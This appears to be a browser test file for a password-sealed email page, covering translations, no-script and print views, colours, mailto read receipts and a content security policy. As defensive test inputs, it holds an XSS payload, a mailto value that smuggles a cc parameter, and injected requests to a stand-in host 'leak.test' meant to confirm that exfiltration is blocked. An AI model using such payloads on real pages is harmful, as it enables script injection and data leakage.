// The page around the message: its languages, what it says before and after it is opened, without scripts and on paper.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { envelope, fileUrl, launch, onDisk, openEnvelope, PASSWORD, submit, watchedPage } from "./helpers.mjs";
import { LANGUAGES, page as around, sealPayloads, strings } from "./independent-sealer.mjs";

let browser;
before(async () => (browser = await launch()));
after(() => browser.close());

const message = Buffer.from("Subject: x\r\n\r\nabc\r\n");
const view = {
  from: [{ name: "Ada Weber", address: "ada@weber.example" }],
  to: [{ name: "Jonas Lind", address: "jonas@lind.example" }],
  subject: "Plans", date: "2026-11-19T14:05:00+01:00", html: "<p>Dear <b>Jonas</b></p>", text: "Dear Jonas",
  message_id: "1@weber.example",
  sealed: { at: "2026-11-25T10:00:00Z", by: "Weber & Co" },
  attachments: [{ name: "a.txt", type: "text/plain", size: 3, range: [14, 17], encoding: "identity" }],
};

const withPage = async (options, its = view) =>
  fileUrl(onDisk(around(await sealPayloads(its, message, { password: PASSWORD, p2c: 1000 }), options)));

async function freshPage(options = {}) {
  const context = await browser.newContext({ locale: "en-GB", timezoneId: "Europe/Berlin", ...options });
  return { context, ...(await watchedPage(context)) };
}

for (const tag of LANGUAGES) {
  test(`speaks ${tag} to a reader whose browser does`, async () => {
    const its = strings(tag);
    const { context, page, seen } = await freshPage({ locale: tag });
    await page.goto(await withPage({ languages: ["en", "de", tag].filter((one, i, all) => all.indexOf(one) === i) }));
    assert.equal(await page.locator("h1:visible").textContent(), its.get("closed-heading"));
    const html = page.locator("html");
    assert.equal(await html.getAttribute("lang"), tag);
    assert.equal(await html.getAttribute("dir"), ["ar", "he"].includes(tag) ? "rtl" : "ltr");
    await submit(page, "wrong");
    await page.getByText(its.get("refused-wrong-password")).waitFor();
    await submit(page);
    await page.locator("#save-original:enabled").waitFor();
    assert.deepEqual(await page.locator("#headers dt").allTextContents(), ["from", "to", "date"].map((name) => its.get(`header-${name}`)));
    const time = new Intl.DateTimeFormat(tag, { dateStyle: "full", timeStyle: "short", timeZone: "Europe/Berlin" });
    const asBrowser = await page.evaluate(
      ([tag, iso]) => new Intl.DateTimeFormat(tag, { dateStyle: "full", timeStyle: "short" }).format(new Date(iso)), [tag, view.date],
    );
    assert.equal(await page.locator("#headers time").textContent(), asBrowser);
    assert.equal(time.resolvedOptions().timeZone, "Europe/Berlin");
    assert.equal(await page.locator("[data-t]").evaluateAll((all) => all.filter(({ textContent }) => /^[a-z]+(-[a-z]+)+$/.test(textContent)).length), 0);
    assert.deepEqual(seen, { requests: [], console: [], dialogs: [], errors: [] });
    await context.close();
  });
}

test("a page in a language that the reader's browser does not speak is in its first", async () => {
  const { context, page } = await freshPage({ locale: "fi-FI" });
  await page.goto(await withPage({ languages: ["de", "en"].filter((tag) => LANGUAGES.includes(tag)) }));
  assert.equal(await page.locator("h1:visible").textContent(), strings("de").get("closed-heading"));
  await context.close();
});

test("the reader changes the language before and after opening, and nothing is lost", async () => {
  const { context, page } = await freshPage();
  await page.goto(await withPage({ languages: ["en", "ar", "ja"] }));
  await page.locator("#password").fill("wrong");
  await page.keyboard.press("Enter");
  await page.getByText("This password does not open").waitFor();
  await page.locator("#language").selectOption("ar");
  await page.getByText(strings("ar").get("refused-wrong-password")).waitFor();
  assert.equal(await page.locator("#password").inputValue(), "wrong");
  const [label, field] = await Promise.all(["label[for=password]", "#reveal"].map((its) => page.locator(its).boundingBox()));
  assert.ok(label.x > field.x, "mirrored: the label begins at the right, the button is at the left");
  await submit(page);
  await page.locator("#save-original:enabled").waitFor();
  await page.locator("#language").selectOption("ja");
  const its = strings("ja");
  assert.equal(await page.locator("#headers dt").first().textContent(), its.get("header-from"));
  assert.equal(await page.locator("#print").textContent(), its.get("print"));
  assert.ok((await page.locator("#sealed").textContent()).includes("2026"));
  await context.close();
});

test("one language needs no choice", async () => {
  const { context, page } = await freshPage();
  await page.goto(await withPage({ languages: ["en"] }));
  assert.equal(await page.locator("#language").isVisible(), false);
  await context.close();
});

test("hint and claimed sender are told before opening, the sealer only after, and all are text", async () => {
  const bad = '<img src=x onerror="hacked=1">&amp;"\u202e';
  const { context, page, seen } = await freshPage();
  await page.goto(await withPage({ languages: ["en"], hint: bad, sender: bad }));
  assert.ok((await page.locator("#hint").textContent()).includes(bad));
  assert.ok((await page.locator("#claimed").textContent()).includes(bad));
  assert.equal((await page.content()).includes("Weber"), false);
  await submit(page);
  await page.locator("#save-original:enabled").waitFor();
  assert.equal(await page.locator("#sealed").textContent(), "Sealed by Weber & Co on Wednesday, 25 November 2026 at 11:00.");
  assert.equal(await page.evaluate(() => globalThis.hacked), undefined);
  assert.deepEqual(seen, { requests: [], console: [], dialogs: [], errors: [] });
  await context.close();
});

test("reading is confirmed by a mail that the reader may send, and by nothing else", async () => {
  const receipt = { token: "t0ken-_", to: "ada+x&cc=eve@weber.example" };
  const { context, page, seen } = await freshPage();
  const url = await envelope({ ...view, receipt });
  await openEnvelope(page, url);
  await page.locator("#receipt-confirm").evaluate((link) => link.addEventListener("click", (event) => event.preventDefault()));
  await page.locator("#receipt-confirm").click();
  const href = await page.locator("#receipt-confirm").getAttribute("href");
  const { pathname, searchParams } = new URL(href);
  assert.equal(decodeURIComponent(pathname), receipt.to);
  assert.deepEqual([...searchParams.keys()], ["subject", "body"]);
  assert.match(searchParams.get("body"), /\r\nwaxseal-receipt: t0ken-_\r\nmessage-id: 1@weber.example\r\n$/);
  assert.deepEqual(seen, { requests: [], console: [], dialogs: [], errors: [] });
  await page.goto(await envelope(view));
  await submit(page);
  await page.locator("#save-original:enabled").waitFor();
  assert.equal(await page.locator("#receipt").isVisible(), false);
  await context.close();
});

test("without scripts the page says in each language what to do on each device", async () => {
  const { context, page } = await freshPage({ javaScriptEnabled: false });
  await page.goto(await withPage({ sender: "Ada Weber" }));
  await page.locator("h1:visible").waitFor();
  for (const [i, tag] of LANGUAGES.entries()) {
    const block = page.locator(`#instructions > [lang="${tag}"]`);
    if (i > 0) await block.locator("summary").click();
    const text = await block.innerText();
    const its = strings(tag);
    const claimed = its.get("claimed").replace("{sender}", "Ada Weber");
    for (const sentence of [its.get("noscript-heading"), its.get("noscript-why"), claimed]) assert.ok(text.includes(sentence), sentence);
    for (const device of ["iphone", "android", "computer"]) assert.ok(text.includes(its.get(`noscript-${device}`)), device);
  }
  assert.equal(await page.locator("input:visible, select:visible, button:visible").count(), 0);
  await context.close();
});

test("on paper a closed page is its instructions, in the reader's language, and an open one the mail", async () => {
  const { context, page } = await freshPage();
  await page.goto(await withPage({ languages: ["de", "en"].filter((tag) => LANGUAGES.includes(tag)) }));
  await page.emulateMedia({ media: "print" });
  const text = () => page.locator("body").innerText();
  assert.ok((await text()).includes(strings("en").get("noscript-why")));
  assert.equal((await text()).includes(strings("de").get("noscript-why")), false);
  assert.equal(await page.locator("#password").isVisible(), false);
  await page.emulateMedia({ media: "screen" });
  await submit(page);
  await page.locator("#save-original:enabled").waitFor();
  await page.emulateMedia({ media: "print" });
  assert.ok((await text()).includes("Ada Weber"));
  assert.equal((await text()).includes(strings("en").get("noscript-why")), false);
  assert.equal(await page.locator("button:visible").count(), 0);
  await page.emulateMedia({ media: "screen" });

  // The button prints the mail from its frame, where it breaks between lines, with its headers.
  const printed = await page.evaluate(() => {
    const frame = document.getElementById("frame");
    let printed = "";
    frame.contentWindow.print = () => (printed = frame.contentDocument.body.textContent);
    document.getElementById("print").click();
    document.getElementById("print").click();
    return printed;
  });
  assert.match(printed, /^PlansFromAda Weber <ada@weber\.example>.*2026.*Dear Jonas$/);
  await context.close();
});

test("a mail without colours of its own is as dark as the page, another stays on white paper", async () => {
  const { context, page } = await freshPage({ colorScheme: "dark" });
  const colours = async (html) => {
    await openEnvelope(page, await envelope({ ...view, html }));
    return page.locator("#frame").evaluate(({ contentDocument }) => {
      const { backgroundColor, color } = getComputedStyle(contentDocument.documentElement);
      return [backgroundColor, color];
    });
  };
  const [dark, light] = [["rgb(28, 35, 34)", "rgb(231, 236, 234)"], ["rgb(255, 255, 255)", "rgb(28, 31, 30)"]];
  assert.deepEqual(await colours("<p>Plain <b>words</b></p>"), dark);
  for (const html of [
    '<p style="color:#333">x</p>', '<table bgcolor="#fff"><tr><td>x</table>', '<font color="navy">x</font>',
    '<p style="BACKGROUND-COLOR:#eee">x</p>', '<img alt="x">',
  ]) {
    assert.deepEqual(await colours(html), light, html);
  }
  await context.close();
});

test("the policy forbids every request, even to a script that stands in the frame", async () => {
  const { context, page, seen } = await freshPage();
  await openEnvelope(page, await envelope(view));
  // Written into the frame as no mail can, and with a sandbox that lets it run.
  const outcome = await page.evaluate(async () => {
    const frame = document.getElementById("frame");
    const blocked = [];
    frame.setAttribute("sandbox", "allow-same-origin allow-scripts");
    const loaded = new Promise((done) => (frame.onload = done));
    frame.srcdoc = "<script>parent.ran = 1</" + "script><p>x</p>";
    await loaded;
    const inside = frame.contentDocument;
    inside.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
    // What a script inside would try, with the frame's own window, so under the policy that the frame inherits.
    const its = frame.contentWindow;
    const tried = await Promise.all([
      its.fetch("http://leak.test/fetch").then(() => "fetched", () => "refused"),
      its.navigator.sendBeacon("http://leak.test/beacon") && "queued",
    ]);
    new its.Image().src = "http://leak.test/image";
    try {
      new its.WebSocket("ws://leak.test/socket");
    } catch {
      // Firefox throws; the event tells.
    }
    await new Promise((done) => setTimeout(done, 300));
    return { ran: globalThis.ran, fetched: tried[0], blocked: [...new Set(blocked)].sort() };
  });
  assert.deepEqual(outcome, { ran: undefined, fetched: "refused", blocked: ["connect-src", "img-src", "script-src-elem"] });
  assert.deepEqual(seen.requests, []);
  await context.close();
});
